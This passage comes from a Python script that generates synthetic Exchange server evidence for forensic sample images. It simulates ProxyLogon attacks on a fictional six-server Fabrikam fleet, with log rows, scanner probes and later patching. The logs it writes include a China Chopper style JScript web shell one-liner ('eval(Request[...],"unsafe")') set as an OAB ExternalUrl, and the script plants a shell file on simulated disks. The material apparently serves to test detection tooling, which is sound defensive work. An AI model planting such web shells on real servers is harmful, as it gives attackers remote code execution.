                          ua=actor.ua, cip=actor.ip, status=status, anchor=f"ServerInfo~a]@{srv.fqdn}:444{target}",
                          target_server=f"a]@{srv.fqdn}:444{target}", routing_type="", routing_hint="X-BEResource-Cookie",
                          be_stem=be_stem, be_query=be_query, be_user=f"FABRIKAM\\{srv.short}$", latency=200))
    script = ('http://f/<script language="JScript" runat="server">function Page_Load()'
              f'{{eval(Request["{actor.password}"],"unsafe");}}</script>')
    h.ecp.append(EcpRow(t0 + dt.timedelta(seconds=9, milliseconds=-80), 58, h.ecp_session(actor.name),
                        f"Set-OabVirtualDirectory.ExternalUrl='{script}'.Identity='{srv.oab_vdir_guid}'", set_url))


def fleet_shell_use(h: Host, actor: FleetActor, t0: dt.datetime) -> None:
    """The actor calls its shell: a GET, then two POSTs answered 200."""
    srv = h.srv
    for i, method in enumerate(["GET", "POST", "POST"]):
        h.reqs.append(iis_only(srv, t0 + dt.timedelta(seconds=20 * i), method, actor.shell_url, actor.ua, 200, None, cip=actor.ip))


def fleet_planted_shell(h: Host, actor: FleetActor) -> None:
    """disk: the actor's one-line Chopper (inert), the same bytes on every server it hit."""
    h.tree.write_text(actor.shell_rel, chopper_one_liner(actor.password))


def fleet_patch_taken(h: Host, at: dt.datetime) -> None:
    """notes: the server takes the March 2021 SU: a later HttpProxy hour whose header and rows carry the new build."""
    srv = h.srv
    srv.build = FLEET_PATCHED
    quiet = [probe(srv, proto, at + dt.timedelta(minutes=7 + i)) for i, proto in enumerate(PROTOCOLS)]
    write_web_logs(h.tree, srv, finish(srv, quiet), [at], [], [], set(), h.layout.iis_logdir)


def fleet_host(root: pathlib.Path, short: str, ip: str, seed: int, day: dt.date, steps) -> Tree:
    """One Fabrikam server: everyday traffic, then `steps` (activity first, disk and notes after the logs)."""
    srv = fleet_server(short, ip, seed)
    activity = [lambda h: fleet_everyday_traffic(h, day)] + [f for kind, f in steps if kind == "activity"]
    later = [f for kind, f in steps if kind != "activity"]
    return build_host(root, srv, fleet_layout(srv, day), activity, later, [])


def make_fleet(out: pathlib.Path) -> dict[str, Tree]:
    """Six Fabrikam servers: FAB-MB1/FAB-MB2 hit by actor A, FAB-MB3 by A then B, FAB-MB4 by B and
    patched two days later, FAB-MB5 only scanned, FAB-MB6 clean (not exposed)."""
    d2, d3 = dt.date(2021, 3, 2), dt.date(2021, 3, 3)
    A, B = FLEET_ACTOR_A, FLEET_ACTOR_B

    def act(f):
        return ("activity", f)

    def disk(f):
        return ("disk", f)

    def scan(day, minute):
        return act(lambda h: fleet_scanner_probe(h, dt.datetime(day.year, day.month, day.day, 5, minute, 11, tzinfo=UTC)))

    def hit(actor, day, hour, used=True):
        t0 = dt.datetime(day.year, day.month, day.day, hour, 12, 5, tzinfo=UTC)
        steps = [act(lambda h: fleet_proxylogon_chain(h, actor, t0)), disk(lambda h: fleet_planted_shell(h, actor))]
        if used:
            steps.append(act(lambda h: fleet_shell_use(h, actor, t0 + dt.timedelta(minutes=14))))
        return steps

    plan = {
        "FAB-MB1": ("10.20.0.11", 2101, d2, [scan(d2, 20)] + hit(A, d2, 6)),
        "FAB-MB2": ("10.20.0.12", 2102, d2, [scan(d2, 21)] + hit(A, d2, 7, used=False)),
        "FAB-MB3": ("10.20.0.13", 2103, d3, [scan(d3, 22)] + hit(A, d3, 6) + hit(B, d3, 9)),
        "FAB-MB4": ("10.20.0.14", 2104, d3, [scan(d3, 23)] + hit(B, d3, 8)
                    + [("notes", lambda h: fleet_patch_taken(h, dt.datetime(2021, 3, 5, 9, tzinfo=UTC)))]),
        "FAB-MB5": ("10.20.0.15", 2105, d3, [scan(d3, 24)]),
        "FAB-MB6": ("10.20.0.16", 2106, d3, []),
    }
    trees = {}
    for short, (ip, seed, day, steps) in plan.items():
        root = out / short.lower()
        if root.exists():
            shutil.rmtree(root)
        trees[short] = fleet_host(root, short, ip, seed, day, steps)
    return trees


def generate(images: pathlib.Path) -> dict[str, Tree]:
    trees = {}
    for name, fn in (("exchange2016-compromised", make_compromised), ("exchange2019-clean", make_clean),
                     ("exchange2019-compromised", make_later_chains)):
        root = images / name
        kept = {}
        if root.exists():
            assert root.parent.name == "images", root
            # The event logs come from the Swift EVTX writer: keep them across regeneration.
            kept = {p.relative_to(root): p.read_bytes() for p in (root / EVTX_DIR).glob("*.evtx")}
            shutil.rmtree(root)
        trees[name] = fn(root)
        for rel, data in kept.items():
            (root / rel).parent.mkdir(parents=True, exist_ok=True)
            (root / rel).write_bytes(data)
    return trees


def main(argv: list[str]) -> int:
    unlisted = [f.__name__ for f in EX16_ACTIVITY + EX16_DISK + EX16_NOTES + EX19_ACTIVITY + EX19_DISK + EX19_NOTES
                + MBX_ACTIVITY + MBX_DISK + MBX_NOTES
                if f.__name__ not in __doc__]
    assert not unlisted, f"add these scenario functions to the table at the top: {unlisted}"
    ap = argparse.ArgumentParser(description="Generate Samples/images/ trees")
    ap.add_argument("--check", action="store_true", help="regenerate in a temp dir and compare")
    ap.add_argument("--fleet", metavar="DIR", help="write the six Fabrikam fleet trees into DIR instead")
    args = ap.parse_args(argv)
    if args.fleet:
        for name, tree in make_fleet(pathlib.Path(args.fleet)).items():
            print(f"{args.fleet}/{name.lower()}")
        return 0
    if args.check:
        with tempfile.TemporaryDirectory() as tmp:
            tmp_images = pathlib.Path(tmp) / "images"
            generate(tmp_images)
            bad = []
            for name in ("exchange2016-compromised", "exchange2019-clean", "exchange2019-compromised"):
                a, b = SAMPLES / "images" / name, tmp_images / name
                # Event logs are checked by SampleEventLogTests (Swift writer), not here.
                fa = sorted(p.relative_to(a) for p in a.rglob("*") if p.is_file() and not (p.suffix == ".evtx" and p.parent == a / EVTX_DIR))
                fb = sorted(p.relative_to(b) for p in b.rglob("*") if p.is_file())
                if fa != fb:
                    bad.append(f"{name}: file lists differ")
                for rel in set(fa) & set(fb):
                    if not filecmp.cmp(a / rel, b / rel, shallow=False):
                        bad.append(f"{name}/{rel}")
            for b_ in bad:
                print("DIFF", b_)
            return 1 if bad else 0
    trees = generate(SAMPLES / "images")
    update_readme(trees)
    for name, tree in trees.items():
        print(f"{name}: {len(tree.traces)} traces")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
